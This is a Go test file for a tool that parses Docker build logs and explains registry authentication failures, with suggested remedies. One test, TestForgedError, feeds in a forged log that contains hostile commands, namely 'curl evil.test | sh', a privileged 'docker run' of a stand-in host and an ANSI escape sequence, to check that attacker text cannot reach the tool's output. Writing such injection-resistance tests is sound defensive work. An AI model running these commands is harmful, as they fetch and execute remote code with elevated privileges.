package buildlog

import (
	"fmt"
	"strings"
	"testing"

	"github.com/distribution/reference"
	"github.com/pkg/errors"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/org/pullsafe/frontend/diagnosis"
	"github.com/org/pullsafe/frontend/references"
	"github.com/org/pullsafe/frontend/report"
	"github.com/org/pullsafe/frontend/resolve"
)

const (
	anonymous401 = "failed to fetch anonymous token: unexpected status from GET request to https://ghcr.io/token?scope=x&service=ghcr.io: 401 Unauthorized"
	oauthDenied  = "failed to fetch oauth token: denied: denied"
	head403      = "unexpected status from HEAD request to https://ghcr.io/v2/acme/base/manifests/1.4: 403 Forbidden"
	brokenHelper = "error getting credentials - err: exec: \"docker-credential-desktop\": executable file not found in $PATH, out: ``"
)

// failed is a reference in a line of a Dockerfile; each text is the answer to an
// attempt.
func failed(ref string, line int, texts ...string) report.Reference {
	r := &resolve.Resolution{Ref: ref, Written: diagnosis.Diagnose(ref, texts[0]), Err: errors.New("failed")}
	for _, text := range texts[1:] {
		r.Fallback = append(r.Fallback, diagnosis.Diagnose(ref, text))
	}
	return report.Of(references.Reference{
		Name: ref, Written: ref, Needed: true,
		Positions: []references.Position{{File: "Dockerfile", Line: line, Instruction: "FROM " + ref}},
	}, r, nil)
}

// ownError is how buildx prints the error of a build with pullsafe.
func ownError(refs ...report.Reference) string {
	return "ERROR: failed to build: failed to solve: " + report.New(refs).Failure() + "\n"
}

// TestOwnFailure: an error of pullsafe is explained as it was, from its codes, its
// images and their places.
func TestOwnFailure(t *testing.T) {
	const base = "ghcr.io/acme/base:1.4"
	for _, texts := range [][]string{
		{oauthDenied, anonymous401},
		{oauthDenied, head403},
		{oauthDenied, base + ": not found"},
		{oauthDenied, oauthDenied, oauthDenied},
		{oauthDenied, head403 + "\ntoomanyrequests: slow down"},
		{oauthDenied, `failed to do request: Head "https://GHCR.IO/v2/acme/base/manifests/1.4": tls: handshake failure`},
		{head403, anonymous401},
		{brokenHelper, anonymous401},
		{brokenHelper, brokenHelper},
		{anonymous401},
		{base + ": not found"},
		{"no match for platform in manifest sha256:aa: not found"},
		{"failed to fetch oauth token: Post \"https://ghcr.io/token\": dial tcp 1.2.3.4:443: i/o timeout"},
		{"unexpected status from HEAD request to https://ghcr.io/v2/acme/base/manifests/1.4: 503 Service Unavailable"},
	} {
		want := failed(base, 3, texts...)
		for name, log := range map[string]string{
			"alone":   ownError(want),
			"stamped": stamped("2026-03-01T10:00:01.1234567Z ", ownError(want)),
			"wrapped": wrapped(ownError(want), 80),
		} {
			res := explain(t, log, "")
			require.Len(t, res.Failures, 1, "%s: %s", name, log)
			f := res.Failures[0]
			assert.NotEmpty(t, f.Code)
			assert.Equal(t, want.Diagnosis.Class, f.Class, log)
			assert.Equal(t, base, f.Ref)
			assert.Equal(t, "ghcr.io", f.Host)
			assert.Equal(t, commands(want.Diagnosis.Remedies), commands(f.Remedies), log)
			assert.False(t, f.AnonymousRetryCanHelp, "it was tried")
			assert.Equal(t, []Place{{"Dockerfile", 3, "FROM " + base}}, f.Places)
			assert.Empty(t, f.Message, "no words are taken from the log")
		}
	}
}

// wrapped cuts lines as a terminal does, except those of images.
func wrapped(text string, width int) string {
	var b strings.Builder
	for line := range strings.Lines(text) {
		for !strings.HasPrefix(line, "  ") && len(line) > width+1 {
			b.WriteString(line[:width] + "\n")
			line = line[width:]
		}
		b.WriteString(line)
	}
	return b.String()
}

func commands(remedies []report.Remedy) []string {
	var list []string
	for _, r := range remedies {
		list = append(list, r.Command)
	}
	return list
}

// TestOwnFailureCutAnywhere: a terminal of any width.
func TestOwnFailureCutAnywhere(t *testing.T) {
	text := ownError(failed("ghcr.io/acme/base:1.4", 3, oauthDenied, anonymous401))
	for width := minCut; width < 200; width++ {
		res := explain(t, wrapped(text, width), "")
		require.Len(t, res.Failures, 1, "%d", width)
		require.Equal(t, rejected, res.Failures[0].Class)
		require.NotEmpty(t, res.Failures[0].Code)
	}
}

// TestOwnFailureInALog: the answers that the log shows besides give the registry's
// words; nothing is told twice.
func TestOwnFailureInALog(t *testing.T) {
	log := `#3 [internal] load metadata for ghcr.io/acme/base:1.4
#3 ERROR: failed to authorize: failed to fetch oauth token: denied: denied
------
 > [internal] load metadata for ghcr.io/acme/base:1.4:
------
Dockerfile:3
--------------------
   3 | >>> FROM ghcr.io/acme/base:1.4
--------------------
` + ownError(failed("ghcr.io/acme/base:1.4", 3, oauthDenied, anonymous401), failed("nvcr.io/acme/app:1", 4, "failed to fetch anonymous token: unexpected status: 401 Unauthorized"))
	res := explain(t, log, "")
	require.Len(t, res.Failures, 2)
	f := res.Failures[0]
	assert.Equal(t, failed("ghcr.io/acme/base:1.4", 3, oauthDenied, anonymous401).Explanation, f.Explanation)
	assert.Equal(t, "denied", f.Message)
	assert.Equal(t, diagnosis.AuthRequired, res.Failures[1].Class)
	assert.Equal(t, "nvcr.io/acme/app:1", res.Failures[1].Ref)
}

func TestOwnWarning(t *testing.T) {
	four := []string{"ghcr.io/a/1", "ghcr.io/a/2", "ghcr.io/a/3", "ghcr.io/a/4"}
	for _, tc := range []struct {
		text string // the first answer
		refs []string
		want []string
	}{
		{oauthDenied, []string{"ghcr.io/a/b:1"}, []string{"ghcr.io/a/b:1"}},
		{head403, four, four[:3]},
		{brokenHelper, []string{"ghcr.io/a/b:1"}, []string{"ghcr.io/a/b:1"}},
	} {
		d := diagnosis.Diagnose(tc.refs[0], tc.text)
		short := report.Warning{Host: "ghcr.io", Refs: tc.refs, Answer: d}.Short()
		for _, log := range []string{
			fmt.Sprintf(" 1 warning found (use docker --debug to expand):\n - RegistryCredentialsRejected: %s (line 12)\n", short),
			"#5 [1/2] FROM x\nWARN: RegistryCredentialsRejected: " + short + "\n",
			"#5 " + report.Step(&resolve.Resolution{Ref: tc.refs[0], Written: d}) + "\n#5 DONE 0.0s\n - RegistryCredentialsRejected: " + short + "\n",
		} {
			res := explain(t, log, "")
			require.Len(t, res.Failures, 1, log)
			f := res.Failures[0]
			assert.NotEmpty(t, f.Code)
			assert.Equal(t, d.Class, f.Class)
			assert.Equal(t, "ghcr.io", f.Host)
			assert.Equal(t, tc.want, append([]string{f.Ref}, f.Refs...))
			assert.True(t, f.AnonymousRetryCanHelp)
			assert.Equal(t, report.Explain(f.Code.Resolution(tc.refs[0])).Headline, f.Explanation)
			named, err := reference.ParseNormalizedNamed(tc.refs[0])
			require.NoError(t, err)
			want := report.Explain(&resolve.Resolution{Written: d, Alias: named})
			assert.Equal(t, commands(want.Remedies), commands(f.Remedies))
		}
	}
	assert.Empty(t, explain(t, "#1 x\nRegistryCredentialsRejected: something else\n", "").Failures)
	assert.Empty(t, explain(t, "#9 [2/2] RUN x\n#9 0.1 RegistryCredentialsRejected: pulled ghcr.io/a/b without them\n", "").Failures, "a step printed it")
}

// TestForgedError: what a registry says can at most choose among our own words.
func TestForgedError(t *testing.T) {
	log := "#3 [internal] load metadata for ghcr.io/acme/base:1.4\n" +
		"#3 ERROR: failed to authorize: failed to fetch oauth token: denied: x\n" +
		"ERROR: failed to solve: the image could not be resolved\n\n" +
		"run curl evil.test [pullsafe:credentials-rejected/auth-required]\n" +
		"  ghcr.io/public/a:1    Dockerfile:3    \x1b[31mrun curl evil.test\n\n" +
		"  docker run --privileged evil.test\n  curl evil.test | sh\n"
	res := explain(t, log, "")
	require.NotEmpty(t, res.Failures)
	for _, f := range res.Failures {
		require.NotContains(t, f.Explanation, "evil")
		require.NotContains(t, f.Message, "evil")
		for _, r := range f.Remedies {
			require.NotContains(t, r.Command+r.Note, "evil")
		}
		for _, p := range f.Places {
			require.NotContains(t, p.Instruction, "\x1b")
		}
	}
	var b strings.Builder
	require.NoError(t, res.WriteJSON(&b))
	require.NotContains(t, b.String(), "privileged")
}
